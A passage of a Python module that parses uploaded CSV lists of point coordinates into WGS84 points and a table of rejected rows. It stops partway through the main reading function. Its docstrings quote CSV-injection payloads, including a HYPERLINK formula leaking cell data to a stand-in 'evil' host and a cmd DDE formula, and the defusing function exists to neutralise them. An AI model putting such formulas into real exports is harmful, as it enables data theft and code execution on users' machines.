"""Read point locations (projects, enterprises) from CSV uploads, row by row, nothing dropped.

Officers upload lists saved from Excel or WPS: UTF-8 (with or without BOM) or GBK/GB18030, headers
in Chinese or English, coordinates in decimal degrees, degrees-minutes-seconds (118°37'12.5"E),
with hemisphere letters (118.62E), in GCJ-02 (Amap) or BD-09 (Baidu), or now and then in projected
metres. :func:`read_points` turns such a file into WGS84 points and a table of rejected rows:

* every data row of the file ends up either in ``points`` or in ``rejected`` (with the line
  number, a precise English reason and the raw values), never silently dropped; blank rows are
  rejected as ``blank_row``;
* problems of the whole table raise a :class:`~geodata.errors.DataError` instead of rejecting
  every row one by one: columns not found or ambiguous (``SchemaError``), longitude and latitude
  swapped, projected metres given as degrees, binary/zip/xlsx files, an empty file
  (``EmptyResultError``), a file too large or too long (``UnsafeInputError``);
* values are never repaired by guessing: swapped columns are reported, not swapped.

Choices:

* A cell longer than :data:`MAX_CELL_CHARS` rejects its row (``too_long``) rather than being
  truncated: truncation would silently change an officer's data. The ``rejected`` table shows
  such a cell shortened to a preview with its length, so a hostile upload cannot bloat the page.
* Cells starting with ``= + - @`` (or tab / carriage return) are kept as typed. They are only
  dangerous when a CSV export is opened in Excel/WPS, which runs them as formulas ("CSV
  injection", e.g. ``=HYPERLINK(...)`` or ``=cmd|...``); :func:`safe_for_csv` prefixes them with a
  single quote, so the spreadsheet shows them as text. Use it on any table before ``to_csv``.
* A row with more fields than the header is rejected (``extra_fields``, usually an unquoted comma
  in a value) unless the extra fields are blank (Excel's trailing commas); a shorter row is padded
  with blanks. Unbalanced quotes make the whole file an error (they would swallow later rows).
* Duplicate ids: the first row with an id is kept, later rows with the same id are rejected
  ("duplicate id X (first at row N)") even if the first row is itself rejected for another reason.
  Rows without an id get ``P-<line>`` ids (``P-0007`` for line 7), flagged in ``id_generated``.
* If all rows are rejected the result is returned (with no points) so the page can show why;
  only an empty file, a header without data rows, or a file of blank rows raises.
"""
from __future__ import annotations

import csv
import io
import math
import re
import unicodedata
from dataclasses import dataclass, field
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import shapely
from pyproj import CRS, Transformer
from pyproj.exceptions import CRSError

from geodata.crs import DISPLAY_CRS, CoordSystem, bd09_to_wgs84, gcj02_to_wgs84
from geodata.errors import DataError, EmptyResultError, SchemaError, UnsafeInputError
from geodata.limits import POINTS_MAX_BYTES, POINTS_MAX_CELL_CHARS, POINTS_MAX_ROWS
from geodata.tables import ENCODINGS
from geodata.vectors import is_zip

MAX_BYTES = POINTS_MAX_BYTES  # the limits and their reasons: geodata.limits
MAX_ROWS = POINTS_MAX_ROWS
MAX_CELL_CHARS = POINTS_MAX_CELL_CHARS
PREVIEW_CHARS = 200  # a rejected too-long cell is shown this long, with its length
CHINA_BOUNDS = (73.0, 3.0, 136.0, 54.0)  # lon min, lat min, lon max, lat max (rough, generous)
PROJECTED_ABS = 1000.0  # |value| above this cannot be degrees: projected metres

# Header names recognised (compared lower-cased, trimmed, without a unit in brackets).
LON_NAMES = ("lon", "lng", "long", "longitude", "x", "easting", "经度", "东经")
LAT_NAMES = ("lat", "latitude", "y", "northing", "纬度", "北纬")
ID_NAMES = ("id", "point_id", "code", "编号", "代码", "统一社会信用代码")
NAME_NAMES = ("name", "名称", "企业名称", "项目名称")  # several present: the first in this order
_COMBINED_NAMES = ("经纬度", "坐标", "coordinates", "coords", "location", "lonlat", "latlon")

# Output columns made here; input columns of the same name are renamed "<name>_input".
RESERVED = ("point_id", "name", "row", "lon_input", "lat_input", "id_generated", "geometry", "reason", "code")

SAVE_AS_CSV = (
    "open it in Excel and save it with File > Save As > 'CSV UTF-8 (Comma delimited) (*.csv)' "
    "(WPS: 另存为 > CSV), then upload the .csv"
)
_OLE2_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"  # Excel 97-2003 .xls, .doc


@dataclass(frozen=True)
class PointTable:
    """Points ready for overlay (EPSG:4326, true WGS84) and the rows that were not usable.

    ``points`` columns: point_id, name (if the file has a name column), row (line number in the
    file, header = line 1), lon_input, lat_input (the text as typed), id_generated, the other
    input columns as text, geometry. ``rejected`` columns: row, reason, code (a short key such
    as ``duplicate_id``), then the raw values under the same names as in ``points``.
    """

    points: gpd.GeoDataFrame
    rejected: pd.DataFrame
    source: str
    coord_system: str
    lon_field: str
    lat_field: str
    id_field: str | None
    name_field: str | None = None
    crs: str | None = None  # the projected/other CRS the values were converted from, if any
    n_rows: int = 0  # data rows read (blank rows included)
    notes: tuple[str, ...] = field(default_factory=tuple)

    @property
    def n_points(self) -> int:
        return len(self.points)

    @property
    def n_rejected(self) -> int:
        return len(self.rejected)

    @property
    def counts(self) -> dict[str, int]:
        """rows read, points, rejected, generated ids, and rejected rows per reason code."""
        out = {
            "rows": self.n_rows,
            "points": self.n_points,
            "rejected": self.n_rejected,
            "ids_generated": int(self.points["id_generated"].sum()) if self.n_points else 0,
        }
        if self.n_rejected:
            for code, n in self.rejected["code"].value_counts().sort_index().items():
                out[f"rejected_{code}"] = int(n)
        return out

    def summary(self) -> str:
        """One English sentence (plus notes) for the page."""
        text = f"{self.source}: {self.n_rows} rows read, {self.n_points} points, {self.n_rejected} rejected"
        if self.n_rejected:
            by_code = self.rejected["code"].value_counts().sort_index()
            text += " (" + ", ".join(f"{n} {code.replace('_', ' ')}" for code, n in by_code.items()) + ")"
        text += "."
        if self.crs:
            text += f" Converted from {self.crs} to WGS84."
        elif self.coord_system != CoordSystem.WGS84.value:
            text += f" Converted from {self.coord_system.upper().replace('GCJ02', 'GCJ-02').replace('BD09', 'BD-09')} to WGS84."
        if self.notes:
            text += " " + " ".join(self.notes)
        return text


# ----------------------------------------------------------------------------------------------
# Coordinate values
# ----------------------------------------------------------------------------------------------


class BadValue(ValueError):
    """One cell that cannot be used (the row is rejected, not the file): a short code and a reason
    that quotes the value."""

    def __init__(self, code: str, reason: str) -> None:
        super().__init__(reason)
        self.code = code
        self.reason = reason


_MARKS = (
    ("''", '"'), ("′′", '"'), ("″", '"'), ("”", '"'), ("“", '"'), ("秒", '"'),
    ("º", "°"), ("˚", "°"), ("度", "°"),
    ("′", "'"), ("’", "'"), ("‘", "'"), ("´", "'"), ("分", "'"),
    ("−", "-"),
)
_HEMI = {"e": ("lon", 1), "w": ("lon", -1), "n": ("lat", 1), "s": ("lat", -1),
         "东经": ("lon", 1), "西经": ("lon", -1), "北纬": ("lat", 1), "南纬": ("lat", -1)}
_HEMI_PREFIX = re.compile(r"^(东经|西经|北纬|南纬|[NSEWnsew])\s*")
_HEMI_SUFFIX = re.compile(r"\s*(东经|西经|北纬|南纬|[NSEWnsew])$")
_DECIMAL = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
_THOUSANDS = re.compile(r"[+-]?\d{1,3}(?:,\d{3})+(?:\.\d*)?")
_NUM = r"\d+(?:\.\d+)?"
_DMS = re.compile(rf"(?P<d>{_NUM})\s*°\s*(?:(?P<m>{_NUM})\s*'\s*(?:(?P<s>{_NUM})\s*\"?)?)?")
_COLON = re.compile(rf"(?P<d>\d+):(?P<m>{_NUM})(?::(?P<s>{_NUM}))?")
_NOT_FINITE = {"nan", "inf", "infinity", "-inf", "+inf", "-infinity", "+infinity", "-nan", "+nan"}
_AXIS_WORD = {"lon": "longitude", "lat": "latitude"}


def _normalise(text: str) -> str:
    for old, new in _MARKS:
        text = text.replace(old, new)
    return unicodedata.normalize("NFKC", text).strip()


def parse_coordinate(text: str, *, degrees: bool = True) -> tuple[float, str | None]:
    """Parse one coordinate cell to a float; return ``(value, axis)`` where axis is "lon"/"lat"
    when a hemisphere letter (E/W/N/S, 东经/北纬...) said so, else None.

    Accepts decimal numbers (full-width digits too, thousands commas like ``39,500,000``) and,
    when ``degrees``, degrees-minutes-seconds (``118°37'12.5"E``, ``32°5′3″N``, ``118:37:12.5``,
    ``东经118.62``). Raises ``BadValue`` with a reason that quotes the value.
    """
    raw = text.strip()
    s = _normalise(text)
    if not s:
        raise BadValue("missing_value", "is blank")
    if s.lower() in _NOT_FINITE:
        raise BadValue("not_finite", f"'{raw}' is not a finite number")
    axis, sign = None, 1
    if degrees:
        m = _HEMI_PREFIX.match(s)
        n = _HEMI_SUFFIX.search(s)
        if m and n:
            raise BadValue("malformed", f"'{raw}' has two hemisphere marks")
        if m or n:
            word = (m or n).group(1).lower()
            axis, sign = _HEMI[word]
            s = s[m.end():] if m else s[: n.start()]
            if s[:1] in "+-":
                raise BadValue("malformed", f"'{raw}' has both a sign and a hemisphere letter")
    if _THOUSANDS.fullmatch(s):
        s = s.replace(",", "")
    if _DECIMAL.fullmatch(s):
        value = float(s)
        if not math.isfinite(value):
            raise BadValue("not_finite", f"'{raw}' is not a finite number")
        return sign * value, axis
    if "," in s and _DECIMAL.fullmatch(s.replace(",", ".", 1)):
        raise BadValue("malformed", f"'{raw}' is not a number: use a point as the decimal separator")
    if degrees:
        neg = s[:1] == "-"
        body = s[1:].strip() if s[:1] in "+-" else s
        if neg and axis:
            raise BadValue("malformed", f"'{raw}' has both a sign and a hemisphere letter")
        m = _DMS.fullmatch(body) or _COLON.fullmatch(body)
        if m:
            d, mi, se = m.group("d"), m.group("m"), m.group("s")
            if mi is not None and "." in d:
                raise BadValue("malformed", f"'{raw}' has decimal degrees followed by minutes")
            if se is not None and "." in mi:
                raise BadValue("malformed", f"'{raw}' has decimal minutes followed by seconds")
            minutes = float(mi) if mi is not None else 0.0
            seconds = float(se) if se is not None else 0.0
            if minutes >= 60 or seconds >= 60:
                raise BadValue("malformed", f"'{raw}' has minutes or seconds of 60 or more")
            value = float(d) + minutes / 60.0 + seconds / 3600.0
            return (-1 if neg else 1) * sign * value, axis
        raise BadValue("malformed", f"'{raw}' is not a number or degrees-minutes-seconds (e.g. 118.62 or 118°37'12.5\"E)")
    raise BadValue("malformed", f"'{raw}' is not a number")


# ----------------------------------------------------------------------------------------------
# Formula (CSV) injection
# ----------------------------------------------------------------------------------------------

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def _defuse(value: object) -> object:
    if isinstance(value, str) and value.startswith(_FORMULA_START) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_for_csv(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` safe to export as CSV for Excel/WPS.

    Text cells that start with ``= + - @`` (or tab / carriage return) are prefixed with a single
    quote: a spreadsheet would otherwise run them as formulas when the export is opened ("CSV
    injection": ``=HYPERLINK("http://evil/?"&A1)`` leaks data, ``=cmd|' /c calc'!A1`` runs
    programs). Plain signed numbers such as ``-12.5`` are left alone. Non-text columns
    (numbers, geometry) are unchanged. The upload itself is never altered: this is for exports.
    """
    out = df.copy()
    for col in out.columns:
        if col == getattr(out, "_geometry_column_name", None):
            continue
        if out[col].dtype == object or pd.api.types.is_string_dtype(out[col].dtype):
            out[col] = out[col].map(_defuse)
    return out


# ----------------------------------------------------------------------------------------------
# Reading
# ----------------------------------------------------------------------------------------------


def _size(n: int) -> str:
    if n >= 2**20:
        return f"{n / 2**20:.1f} MiB"
    if n >= 1024:
        return f"{n / 1024:.1f} KiB"
    return f"{n} bytes"


def _read_raw(source: str | Path | bytes, label: str, max_bytes: int) -> bytes:
    too_big = "split it into smaller files, or keep only the columns needed (id, name, lon, lat)"
    if isinstance(source, (bytes, bytearray, memoryview)):
        raw = bytes(source)
    else:
        path = Path(source)
        if not path.is_file():
            raise DataError(label, "the file does not exist", "check the path, or upload the file again")
        size = path.stat().st_size
        if size > max_bytes:
            raise UnsafeInputError(label, f"the file is {_size(size)}, over the limit of {_size(max_bytes)}", too_big)
        raw = path.read_bytes()
    if len(raw) > max_bytes:
        raise UnsafeInputError(label, f"the file is {_size(len(raw))}, over the limit of {_size(max_bytes)}", too_big)
    return raw


def _decode(raw: bytes, label: str) -> str:
    if not raw.strip():
        raise EmptyResultError(label, "the file is empty", "upload a CSV with a header row (e.g. id,name,lon,lat) and one row per point")
    if is_zip(raw):
        raise DataError(label, "it is a zip archive or an Excel .xlsx workbook (an .xlsx is a zip), not CSV text", SAVE_AS_CSV)
    if raw.startswith(_OLE2_MAGIC):
        raise DataError(label, "it is an Excel 97-2003 .xls workbook (or another Office file), not CSV text", SAVE_AS_CSV)
    if raw.startswith((b"\xff\xfe", b"\xfe\xff")):
        raise DataError(label, "it is UTF-16 text (Excel's 'Unicode Text'), not CSV UTF-8", SAVE_AS_CSV)
    if b"\x00" in raw:
        at = raw.index(b"\x00")
        raise DataError(label, f"it holds NUL bytes (the first at byte {at}): a binary file, not CSV text", SAVE_AS_CSV)
    for enc in ENCODINGS:
        try:
            return raw.decode(enc)
        except UnicodeDecodeError:
            continue
    raise DataError(label, "the text is neither UTF-8 nor GBK/GB18030", SAVE_AS_CSV)


def _delimiter(header_line: str) -> str:
    for d in (",", "\t", ";"):
        if d in header_line:
            return d
    return ","


def _records(text: str, label: str, max_rows: int) -> tuple[int, list[str], list[tuple[int, list[str]]]]:
    """(header line, header, [(line, fields)]) with line numbers of where each record starts."""
    first = next((ln for ln in text.splitlines() if ln.strip()), "")
    reader = csv.reader(io.StringIO(text, newline=""), delimiter=_delimiter(first), strict=True)
    header: list[str] | None = None
    header_line = 0
    rows: list[tuple[int, list[str]]] = []
    prev = 0
    try:
        for rec in reader:
            start = prev + 1
            prev = reader.line_num
            if header is None:
                if not any(c.strip() for c in rec):
                    continue  # blank lines above the header
                header, header_line = rec, start
                continue
            rows.append((start, rec))
            if len(rows) > max_rows:
                raise UnsafeInputError(
                    label,
                    f"it has more than {max_rows:,} data rows (limit {max_rows:,})",
                    "split it into files of at most that many rows, or check that it is not a whole database export",
                )
    except csv.Error as exc:
        line = reader.line_num
        if "field larger than field limit" in str(exc):
            raise UnsafeInputError(label, f"a cell near line {line} is longer than {csv.field_size_limit():,} characters", "remove the long text; keep only id, name, lon, lat and short notes") from exc
        raise DataError(label, f"it cannot be parsed as CSV near line {line} ({exc})", "check the quotes: a value with commas or line breaks must be enclosed in double quotes, and quotes must be closed") from exc
    if header is None:
        raise EmptyResultError(label, "the file holds only blank lines", "upload a CSV with a header row (e.g. id,name,lon,lat) and one row per point")
    return header_line, header, rows


def _key(name: str) -> str:
    """Header as compared with the known names: lower-cased, trimmed, unit in brackets removed."""
    k = unicodedata.normalize("NFKC", name).strip().lower()
    k = re.sub(r"\s*[(\[（【].*?[)\]）】]\s*$", "", k)
    return re.sub(r"[\s\-]+", "_", k).strip("_")


def _find(columns: list[str], given: str | None, candidates: tuple[str, ...], what: str, arg: str, label: str, *, required: bool, prefer_first: bool = False) -> str | None:
    if given is not None:
        want = _key(given)
        hits = [c for c in columns if c == given.strip().lower()] or [c for c in columns if _key(c) == want]
        if not hits:
            raise SchemaError(label, f"it has no column '{given}' for the {what} (columns found: {columns})", f"pass {arg}= one of those columns, or rename the column in the header row")
        return hits[0]
    hits = [c for c in columns if _key(c) in candidates]
    if prefer_first and hits:
        return min(hits, key=lambda c: candidates.index(_key(c)))
    if len(hits) > 1:
        raise SchemaError(label, f"several columns could hold the {what}: {hits} (columns found: {columns})", f"choose one with {arg}= (the column choice in the upload form), or rename the others")
    if not hits:
        if not required:
            return None
        combined = [c for c in columns if _key(c) in _COMBINED_NAMES]
        extra = f"; split the combined column {combined} into separate longitude and latitude columns" if combined else ""
        raise SchemaError(
            label,
            f"no column for the {what} (columns found: {columns})",
            f"name the column one of {list(candidates)} in the header row (the header must be the first row), "
            f"or choose it with {arg}={extra}",
        )
    return hits[0]


def _crs_label(crs: CRS) -> str:
    code = crs.to_epsg()
    return f"EPSG:{code} ({crs.name})" if code else crs.name


def _guess_projected(values: np.ndarray) -> str:
    """A hint which CRS projected numbers are in, from the zone number in 8-digit eastings."""
    big = values[np.isfinite(values) & (np.abs(values) >= 1e7)]
    if big.size:
        zone = int(np.median(big) // 1_000_000)
        if 25 <= zone <= 45:
            return f"; the eastings carry the 3-degree zone number {zone}: CGCS2000 / 3-degree Gauss-Kruger zone {zone} is EPSG:{4513 + zone - 25}"
        if 13 <= zone <= 23:
            return f"; the eastings carry the 6-degree zone number {zone}: CGCS2000 / Gauss-Kruger zone {zone} is EPSG:{4491 + zone - 13}"
    return ""


def _inside(lon: np.ndarray, lat: np.ndarray, bounds: tuple[float, float, float, float]) -> np.ndarray:
    return (lon >= bounds[0]) & (lon <= bounds[2]) & (lat >= bounds[1]) & (lat <= bounds[3])


def _unique_names(names: list[str], taken: set[str]) -> list[str]:
    out = []
    for n in names:
        cand, k = n, 1
        while cand in taken:
            cand = f"{n}_input" if k == 1 else f"{n}_input{k}"
            k += 1
        taken.add(cand)
        out.append(cand)
    return out


def _preview(value: str) -> str:
    if len(value) > MAX_CELL_CHARS:
        return value[:PREVIEW_CHARS] + f"… [{len(value):,} characters]"
    return value


def read_points(
    source: str | Path | bytes,
    *,
    name: str | None = None,
    coord_system: CoordSystem | str = "wgs84",
    lon_field: str | None = None,
    lat_field: str | None = None,
    id_field: str | None = None,
    name_field: str | None = None,
    crs: int | str | CRS | None = None,
    bounds: tuple[float, float, float, float] | None = CHINA_BOUNDS,
    max_bytes: int = MAX_BYTES,
    max_rows: int = MAX_ROWS,
) -> PointTable:
    """Read a CSV of point locations into WGS84 points and rejected rows.

    Parameters
    ----------
    source
        Path, or the uploaded bytes (never written to disk).
    name
        The file name shown in messages (default: the path, or ``<upload>``).
    coord_system
        What the lon/lat numbers are in: ``wgs84`` (also CGCS2000, Tianditu), ``gcj02`` (Amap,
        Tencent) or ``bd09`` (Baidu); GCJ-02 / BD-09 are converted to WGS84.
    lon_field, lat_field, id_field, name_field
        Column names; found from the header when not given (see ``LON_NAMES`` etc.).
    crs
        The CRS of the values when they are not WGS84 lon/lat, e.g. ``4549`` (CGCS2000 /
        3-degree Gauss-Kruger CM 120E) or ``32650`` (UTM 50N): x = lon_field (easting),
        y = lat_field (northing); converted with pyproj. Only with ``coord_system="wgs84"``.
    bounds
        (lon min, lat min, lon max, lat max) that points must lie in, checked on the numbers as
        given (before a GCJ-02 / BD-09 conversion, which moves them by under a kilometre); rows
        outside are rejected. Default: rough bounds of China. ``None``: only +/-180 / +/-90.
    max_bytes, max_rows
        Limits for hostile or mistaken uploads (UnsafeInputError above them).
    """
    label = name or (str(source) if not isinstance(source, (bytes, bytearray, memoryview)) else "<upload>")
    try:
        system = CoordSystem(str(getattr(coord_system, "value", coord_system)).lower())
    except ValueError as exc:
        raise DataError(label, f"unknown coordinate system {coord_system!r}", f"choose one of {[s.value for s in CoordSystem]}") from exc
    src_crs: CRS | None = None
    if crs is not None:
        try:
            src_crs = CRS.from_user_input(crs)
        except CRSError as exc:
            raise DataError(label, f"{crs!r} is not a known CRS", "give an EPSG code such as 4549 (CGCS2000 / 3-degree GK CM 120E) or 32650 (UTM 50N)") from exc
        if system is not CoordSystem.WGS84:
            raise DataError(label, f"both a CRS ({_crs_label(src_crs)}) and {system.value.upper()} were given, but GCJ-02/BD-09 are lon/lat systems", "give the CRS only for projected values, or the coordinate system only for lon/lat values")
    projected = src_crs is not None and src_crs.is_projected

    raw = _read_raw(source, label, max_bytes)
    text = _decode(raw, label)
    header_line, header, records = _records(text, label, max_rows)

    # ---- header ---------------------------------------------------------------------------
    columns = [h.replace("\ufeff", "").strip().lower() for h in header]
    ncols = len(columns)
    notes: list[str] = []
    blank_named = [i for i, c in enumerate(columns) if not c]
    for i in blank_named:
        columns[i] = f"unnamed_{i + 1}"
    dup = sorted({c for c in columns if columns.count(c) > 1})
    if dup:
        raise SchemaError(label, f"the header row repeats the column name(s) {dup} (header on line {header_line})", "give every column a different name")
    if not records:
        raise EmptyResultError(label, f"it has a header row (line {header_line}) but no data rows", "add one row per point under the header")

    lon_col = _find(columns, lon_field, LON_NAMES, "longitude (or easting)", "lon_field", label, required=True)
    lat_col = _find(columns, lat_field, LAT_NAMES, "latitude (or northing)", "lat_field", label, required=True)
    if lon_col == lat_col:
        raise SchemaError(label, f"the same column '{lon_col}' was chosen for longitude and latitude", "choose two different columns")
    id_col = _find(columns, id_field, ID_NAMES, "point id", "id_field", label, required=False)
    name_col = _find(columns, name_field, NAME_NAMES, "name", "name_field", label, required=False, prefer_first=True)
    if id_col is not None and id_col in (lon_col, lat_col):
        raise SchemaError(label, f"column '{id_col}' was chosen both as id and as a coordinate", "choose a different id column")
    if name_col is not None and name_col in (lon_col, lat_col, id_col):
        name_col = None

    # ---- rows -----------------------------------------------------------------------------
    n = len(records)
    cells: list[list[str]] = []
    lines = np.empty(n, dtype="int64")
    problems: list[list[tuple[str, str]]] = [[] for _ in range(n)]
    blank = np.zeros(n, dtype=bool)
    for i, (line, rec) in enumerate(records):
        lines[i] = line
        rec = [c.strip() for c in rec]
        if len(rec) > ncols:
            extra = rec[ncols:]
            if any(extra):
                shown = ", ".join(f"'{_preview(v)}'" for v in extra if v)
                problems[i].append(("extra_fields", f"the row has {len(rec)} fields but the header has {ncols} (extra values {shown}; an unquoted comma in a value?)"))
            rec = rec[:ncols]
        elif len(rec) < ncols:
            rec = rec + [""] * (ncols - len(rec))
        if not any(rec) and not problems[i]:
            blank[i] = True
            problems[i].append(("blank_row", "the row is blank"))
        for col, v in zip(columns, rec):
            if len(v) > MAX_CELL_CHARS:
                problems[i].append(("too_long", f"column '{col}' holds {len(v):,} characters (limit {MAX_CELL_CHARS:,})"))
        cells.append(rec)
    if blank.all():
        raise EmptyResultError(label, f"it has a header row (line {header_line}) but its {n} data rows are blank", "add one row per point under the header")

    table = pd.DataFrame(cells, columns=columns, dtype=object) if cells else pd.DataFrame(columns=columns)
    # blank-named columns with nothing in them are Excel's trailing commas: drop the column
    for i in blank_named:
        col = columns[i]
        if not table[col].astype(bool).any():
            table = table.drop(columns=col)
            notes.append(f"Column {i + 1} had no name and no values and was left out.")

    # ---- coordinates ----------------------------------------------------------------------
    values = {"lon": np.full(n, np.nan), "lat": np.full(n, np.nan)}
    for axis, col in (("lon", lon_col), ("lat", lat_col)):
        word = _AXIS_WORD[axis]
        for i, v in enumerate(table[col]):
            if blank[i] or len(v) > MAX_CELL_CHARS:
                continue
            try:
                val, marked = parse_coordinate(v, degrees=not projected)
            except BadValue as bad:
                reason = f"column '{col}' is blank" if bad.code == "missing_value" else f"{word} in column '{col}': {bad.reason}"
                problems[i].append((bad.code, reason))
                continue
            values[axis][i] = val
            if marked is not None and marked != axis:
                problems[i].append(("wrong_hemisphere", f"{word} in column '{col}': '{v}' is marked as a {_AXIS_WORD[marked]}"))
    lon_in, lat_in = values["lon"], values["lat"]
    parsed = np.isfinite(lon_in) & np.isfinite(lat_in)
    n_parsed = int(parsed.sum())
    cols_txt = f"columns '{lon_col}' / '{lat_col}'"

    if n_parsed and not projected:
        big = parsed & ((np.abs(lon_in) > PROJECTED_ABS) | (np.abs(lat_in) > PROJECTED_ABS))
        if big.sum() * 2 > n_parsed:
            i = int(np.flatnonzero(big)[0])
            raise DataError(
                label,
                f"{cols_txt} hold values like {table[lon_col].iloc[i]} / {table[lat_col].iloc[i]} (line {lines[i]}; "
                f"{int(big.sum())} of {n_parsed} rows above {PROJECTED_ABS:g}): these look like projected metres "
                "(e.g. CGCS2000 Gauss-Kruger), not longitude/latitude",
                "convert them to longitude/latitude (EPSG:4490 or 4326) in a GIS, or give their projected CRS "
                "(crs= / the CRS choice in the upload form), e.g. EPSG:4549 for CGCS2000 / 3-degree Gauss-Kruger "
                "CM 120E without zone number, EPSG:4528 for zone 40 with the zone number in the easting, "
                f"EPSG:32650 for UTM 50N{_guess_projected(np.concatenate([lon_in[big], lat_in[big]]))}",
            )

    box = bounds if bounds is not None else (-180.0, -90.0, 180.0, 90.0)
    if projected:
        small = parsed & (np.abs(lon_in) <= 180) & (np.abs(lat_in) <= 180)
        if small.sum() * 2 > n_parsed:
            i = int(np.flatnonzero(small)[0])
            raise DataError(
                label,
                f"{cols_txt} hold values like {table[lon_col].iloc[i]} / {table[lat_col].iloc[i]} (line {lines[i]}): "
                f"these look like longitude/latitude in degrees, not metres in {_crs_label(src_crs)}",
                "read them without a projected CRS (coord_system wgs84, gcj02 or bd09)",
            )
        to_wgs = Transformer.from_crs(src_crs, DISPLAY_CRS, always_xy=True)
        lon_deg, lat_deg = np.full(n, np.nan), np.full(n, np.nan)
        swapped_lon, swapped_lat = np.full(n, np.nan), np.full(n, np.nan)
        if n_parsed:
            lon_deg[parsed], lat_deg[parsed] = to_wgs.transform(lon_in[parsed], lat_in[parsed], errcheck=False)
            swapped_lon[parsed], swapped_lat[parsed] = to_wgs.transform(lat_in[parsed], lon_in[parsed], errcheck=False)
        ok = parsed & np.isfinite(lon_deg) & np.isfinite(lat_deg)
        n_in = int((ok & _inside(lon_deg, lat_deg, box)).sum())
        n_swap = int((_inside(swapped_lon, swapped_lat, box) & np.isfinite(swapped_lon)).sum())
        if n_parsed and n_in * 2 <= n_parsed and n_swap * 2 > n_parsed:
            raise DataError(
                label,
                f"with {_crs_label(src_crs)}, {cols_txt} put most points outside the accepted area, but swapped they "
                f"fall inside: the easting and northing columns look swapped (in Chinese survey tables X is the "
                f"northing and Y the easting)",
                f"pass lon_field='{lat_col}', lat_field='{lon_col}' (easting, northing), or rename the columns",
            )
        for i in np.flatnonzero(parsed & ~ok):
            problems[i].append(("transform_failed", f"({table[lon_col].iloc[i]}, {table[lat_col].iloc[i]}) cannot be converted from {_crs_label(src_crs)}"))
    else:
        if n_parsed:
            looks_swapped = parsed & ~_inside(lon_in, lat_in, box) & _inside(lat_in, lon_in, box)
            if looks_swapped.sum() * 2 > n_parsed:
                i = int(np.flatnonzero(looks_swapped)[0])
                raise DataError(
                    label,
                    f"longitude and latitude look swapped: for {int(looks_swapped.sum())} of {n_parsed} rows column "
                    f"'{lon_col}' holds a latitude and '{lat_col}' a longitude (line {lines[i]}: "
                    f"{table[lon_col].iloc[i]} / {table[lat_col].iloc[i]})",
                    f"swap the two column names in the header row, or pass lon_field='{lat_col}', lat_field='{lon_col}'",
                )
        lon_deg, lat_deg = lon_in, lat_in
        if src_crs is not None and n_parsed:  # a geographic CRS other than WGS84 (e.g. Beijing 1954)
            to_wgs = Transformer.from_crs(src_crs, DISPLAY_CRS, always_xy=True)
            lon_deg, lat_deg = np.full(n, np.nan), np.full(n, np.nan)
            ok_range = parsed & (np.abs(lon_in) <= 180) & (np.abs(lat_in) <= 90)
            lon_deg[ok_range], lat_deg[ok_range] = to_wgs.transform(lon_in[ok_range], lat_in[ok_range], errcheck=False)
            lon_deg = np.where(ok_range, lon_deg, lon_in)
            lat_deg = np.where(ok_range, lat_deg, lat_in)

    area = "China (lon 73-136, lat 3-54)" if tuple(box) == CHINA_BOUNDS else f"the accepted area (lon {box[0]:g}-{box[2]:g}, lat {box[1]:g}-{box[3]:g})"
    for i in np.flatnonzero(parsed):
        if any(code == "transform_failed" for code, _ in problems[i]):
            continue
        lo, la = float(lon_deg[i]), float(lat_deg[i])
        lo_txt, la_txt = table[lon_col].iloc[i], table[lat_col].iloc[i]
        hint = ""
        if not projected and bool(_inside(np.array(la), np.array(lo), box)):
            hint = " (longitude and latitude swapped in this row?)"
        elif not projected and max(abs(lo), abs(la)) > PROJECTED_ABS:
            hint = " (projected metres? give their CRS, or convert them to longitude/latitude)"
        found: list[tuple[str, str]] = []
        if not projected and abs(lo) > 180:
            found.append(("out_of_range", f"longitude {lo_txt} in column '{lon_col}' is outside -180..180"))
        if not projected and abs(la) > 90:
            found.append(("out_of_range", f"latitude {la_txt} in column '{lat_col}' is outside -90..90"))
        if not found and not bool(_inside(np.array(lo), np.array(la), box)):
            where = f"({lo:.6f}, {la:.6f}) from ({lo_txt}, {la_txt})" if projected else f"({lo_txt}, {la_txt})"
            hint = hint or ("; check the CRS and the easting/northing columns" if projected else "; check the sign, the hemisphere and that the values are decimal degrees")
            found.append(("outside_bounds", f"point {where} lies outside {area}"))
        if found:
            code, last = found[-1]
            found[-1] = (code, last + hint)
            problems[i].extend(found)

    # ---- ids ------------------------------------------------------------------------------
    ids = table[id_col] if id_col is not None else pd.Series([""] * n, dtype=object)
    first_at: dict[str, int] = {}
    for i, v in enumerate(ids):
        if not v or blank[i]:
            continue
        if v in first_at:
            problems[i].append(("duplicate_id", f"duplicate id {v} (first at row {first_at[v]})"))
        else:
            first_at[v] = int(lines[i])

    # ---- outputs --------------------------------------------------------------------------
    rename = {lon_col: "lon_input", lat_col: "lat_input"}
    if id_col is not None:
        rename[id_col] = "point_id"
    if name_col is not None:
        rename[name_col] = "name"
    others = [c for c in table.columns if c not in rename]
    new_names = _unique_names(others, set(RESERVED) | set(rename.values()))
    for old, new in zip(others, new_names):
        if old != new:
            notes.append(f"Input column '{old}' is kept as '{new}'.")
        rename[old] = new
    out = table.rename(columns=rename)
    lead = [c for c in ("point_id", "name") if c in out.columns]
    ordered = lead + ["row", "lon_input", "lat_input"] + new_names
    out.insert(0, "row", lines)

    good = np.array([not p for p in problems], dtype=bool)
    pts = out.loc[good, ordered].copy()
    gen = np.zeros(len(pts), dtype=bool)
    if len(pts):
        pid = pts["point_id"].tolist() if "point_id" in pts.columns else [""] * len(pts)
        for k, (v, line) in enumerate(zip(pid, pts["row"])):
            if not v:
                cand, j = f"P-{line:04d}", 2
                while cand in first_at:
                    cand, j = f"P-{line:04d}-{j}", j + 1
                pid[k] = cand
                gen[k] = True
        if "point_id" in pts.columns:
            pts["point_id"] = pid
        else:
            pts.insert(0, "point_id", pid)
    elif "point_id" not in pts.columns:
        pts.insert(0, "point_id", pd.Series([], dtype=object))
    pts.insert(pts.columns.get_loc("lat_input") + 1, "id_generated", gen)
    glon, glat = lon_deg[good], lat_deg[good]
